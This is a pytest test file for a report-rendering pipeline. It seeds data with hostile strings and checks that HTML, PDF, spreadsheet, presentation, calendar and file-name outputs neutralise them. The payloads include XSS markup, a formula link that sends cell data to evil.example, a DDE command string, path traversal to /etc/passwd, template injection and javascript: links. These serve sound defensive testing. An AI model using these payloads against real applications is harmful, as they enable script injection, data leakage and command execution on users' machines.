"""Whatever stands in an account, a contact, a comment or a file name comes out as text: no markup, formula, link, path."""

import csv
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from itertools import cycle, islice
from pathlib import Path
from types import SimpleNamespace

import polars as pl
import pypdf
import pytest

from pipeline.reports.contents import REPORTS
from pipeline.stages import render as stage
from pipeline.stages.press.pages import make_press, page_html
from pipeline.stages.press.tables import FORMULA
from pipeline.stages.shelf import read_book, read_scores
from pipeline.warehouse import Warehouse, open_warehouse
from pipeline.workspace import Workspace
from tests.documents.outputs import archive_texts, links_in
from tests.golden.company import SETTINGS, company
from tests.golden.factory import AS_OF
from tests.stages.test_render import fill

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"' onmouseover='alert(3)",
    '=HYPERLINK("https://evil.example/?"&A1,"open") {{ 7*7 }}{% raw %}${7*7}',
    "../../../etc/passwd/..\\..\\con.\x00 nul",
    "\u202egnp.exe\u202c \u2066turned\u2069 \x1b[31m",
    "long " * 60,
    "\u5bc6\u5bc6 \u682a\u5f0f\u4f1a\u793e \U0001f984\U0001f4a9 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "@SUM(1+1)|cmd' /C calc'!A0 [x](javascript:alert(4)) javascript:alert(5)",
)
FILLED = (
    *("account_name", "full_name", "title", "csm", "csm_manager", "account_executive", "executive_sponsor", "owner"),
    *("comment", "subject", "text", "goal", "metric", "theme", "feature_name", "description", "notes", "use_case"),
    *("opportunity_name", "next_action", "next_action_owner", "assignee", "reason", "message", "summary", "industry"),
)
LINKED = ("record_url", "domain")
TAGS = frozenset(
    (
        *("html", "head", "meta", "title", "style", "body", "div", "header", "span", "strong", "nav", "a", "main", "p"),
        *("section", "h1", "h2", "h3", "h4", "table", "caption", "colgroup", "col", "thead", "tbody", "tr", "th", "td"),
        *("ul", "ol", "li", "dl", "dt", "dd", "figure", "figcaption", "svg", "g", "path", "rect", "line", "circle"),
        *(
            "text",
            "img",
            "details",
            "summary",
            "script",
            "footer",
            "br",
            "label",
            "select",
            "option",
            "input",
            "button",
        ),
        *("blockquote", "code", "article", "output", "form", "fieldset", "legend", "small", "em", "time", "aside"),
        *("dialog", "datalist", "optgroup", "noscript", "template"),
    )
)


class Seen(HTMLParser):
    """Elements, attributes and links of a page; scripts that are neither data nor ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.handlers: set[str] = set()
        self.links: set[str] = set()
        self.sources: set[str] = set()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers |= {name for name, _ in attributes if name.startswith("on") or name == "style"}
        self.links |= {
            value or "" for name, value in attributes if name in ("href", "xlink:href", "action", "formaction")
        }
        self.sources |= {(value or "")[:20] for name, value in attributes if name == "src"}


def poison(frame: pl.DataFrame) -> pl.DataFrame:
    """A frame with hostile words wherever words from outside stand, and links that must not be followed."""
    if not frame.height:
        return frame
    rows = islice(cycle(HOSTILE), frame.height)
    words = pl.Series(list(rows), dtype=pl.String)
    if "account_id" in frame.columns and "account_name" not in frame.columns:
        words = words.reverse()
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    bad = [words.alias(name) for name in text if name in FILLED]
    links = [pl.lit("javascript:alert(6)//https://evil.example").alias(name) for name in text if name in LINKED]
    return frame.with_columns(*bad, *links)


def poisoned(warehouse: Warehouse) -> None:
    """A small company whose every word is hostile."""
    fill(warehouse, 7)
    names = warehouse.frame("select table_schema || '.' || table_name as name from information_schema.tables")["name"]
    for name in sorted(name for name in names if name.startswith(("marts.", "scores."))):
        warehouse.replace(name, poison(warehouse.frame(f"select * from {name}")))
    files = warehouse.frame("select * from meta.files").with_columns(path=pl.lit(HOSTILE[0] + "\u202e.csv"))
    warehouse.replace("meta.files", files)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    """One whole run: a few documents with their prints, presentations, tables, messages; and the book it is of."""
    workspace = Workspace(tmp_path_factory.mktemp("hostile"), SETTINGS)
    with pytest.MonkeyPatch.context() as patch, open_warehouse(workspace.warehouse, [workspace.var]) as warehouse:
        patch.setattr(stage, "REPORTS", {"qbr": lambda *parts: REPORTS["qbr"](*parts)[:2], "weekly": REPORTS["weekly"]})
        poisoned(warehouse)
        report = stage.render(workspace, warehouse, AS_OF, lambda line: None, ["*"], ["*"])
        book, scores = read_book(workspace, warehouse, AS_OF), read_scores(warehouse)
    folder = workspace.rendered / AS_OF.isoformat()
    return SimpleNamespace(report=report, folder=folder, book=book, scores=scores, workspace=workspace)


def seen_in(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    return seen


def harmless(html: str) -> None:
    seen = seen_in(html)
    assert seen.tags <= TAGS
    assert seen.handlers <= {"style"} if 'class="print' in html else not seen.handlers
    assert not [link for link in seen.links if re.match(r"\s*(javascript|data|file|https?):", link, re.IGNORECASE)]
    assert seen.sources <= {"data:image/svg+xml;b"}
    assert not re.search("[\x00\x1b\u202e\u2066]", html)
    assert "49}" not in html
    assert "<script>alert" not in html
    assert "<img src=x" not in html


def test_no_document_fails(made: SimpleNamespace) -> None:
    assert made.report.failed == {}


def test_no_page_of_any_report_takes_it_for_markup_or_a_link(made: SimpleNamespace, tmp_path: Path) -> None:
    context = company(count=7).context
    press = make_press(made.workspace, AS_OF, context.policy, lambda line: None)
    for report in REPORTS.values():
        for document in report(made.book, made.scores, context)[:6]:
            harmless(page_html(press, document, "print"))
            harmless(page_html(press, document, "screen"))


def test_no_print_follows_a_link_or_runs_anything(made: SimpleNamespace) -> None:
    prints = sorted(made.folder.rglob("*.pdf"))
    assert len(prints) >= 3
    for path in prints:
        reader = pypdf.PdfReader(path)
        assert not [link for link in links_in(reader) if link != "/GoTo"]
        assert "/Names" not in reader.trailer["/Root"] or "/JavaScript" not in reader.trailer["/Root"]["/Names"]
        assert not re.search("[\u202e\u2066]", "".join(page.extract_text() for page in reader.pages))


def test_the_workbook_holds_neither_formula_nor_link(made: SimpleNamespace) -> None:
    with zipfile.ZipFile(made.folder / "data" / "workbook.xlsx") as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not [name for name in archive.namelist() if "externalLink" in name]
    assert len(sheets) > 20
    assert not [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet or "hyperlink" in sheet]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here")
def test_a_spreadsheet_program_finds_no_formula_in_it(made: SimpleNamespace, tmp_path: Path) -> None:
    books = [made.folder / "data" / name for name in ("workbook.xlsx", "accounts.csv", "nps_responses.csv")]
    options = [f"-env:UserInstallation=file://{tmp_path}/office", "--headless", "--convert-to", "fods", "--outdir"]
    subprocess.run(["soffice", *options, str(tmp_path), *map(str, books)], check=True, capture_output=True, timeout=240)
    for book in books:
        text = (tmp_path / f"{book.stem}.fods").read_text(encoding="utf-8")
        assert text.count("table:table-row") > 2
        assert "table:formula" not in text
        assert "text:a " not in text


def test_no_cell_of_a_table_can_begin_a_formula(made: SimpleNamespace) -> None:
    for path in sorted((made.folder / "data").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as source:
            cells = {cell for row in list(csv.reader(source))[1:] for cell in row}
        risky = [cell for cell in cells if re.match(FORMULA, cell) and not cell.startswith("'")]
        assert not [cell for cell in risky if not re.fullmatch(r"-?[\d.eE+-]+", cell)], path.name


def test_presentations_hold_no_link_and_no_formula(made: SimpleNamespace) -> None:
    shows = sorted(made.folder.rglob("*.pptx"))
    assert shows
    for path in shows:
        parts = "\n".join(archive_texts(path.read_bytes()))
        assert not re.search(r"hlinkClick|hlinkHover|TargetMode=\"External\"|<f>|<f |[\x00\x1b\u202e]", parts)


def test_calendars_hold_only_what_we_wrote(made: SimpleNamespace) -> None:
    for path in sorted(made.folder.rglob("*.ics")):
        lines = path.read_text(encoding="utf-8").replace("\n ", "").splitlines()
        assert all(re.match(r"[A-Z-]+[;:]", line) for line in lines if line)
        assert not [line for line in lines if line.startswith(("ATTACH", "URL:javascript"))]


def test_every_name_of_a_file_is_safe_and_stays_in_the_folder(made: SimpleNamespace) -> None:
    names = [path.relative_to(made.folder).as_posix() for path in made.folder.rglob("*") if path.is_file()]
    assert not [name for name in names if not re.fullmatch(r"[A-Za-z0-9._/-]{1,200}", name) or ".." in name]
    assert not [part for name in names for part in name.split("/") if len(part) > 75]
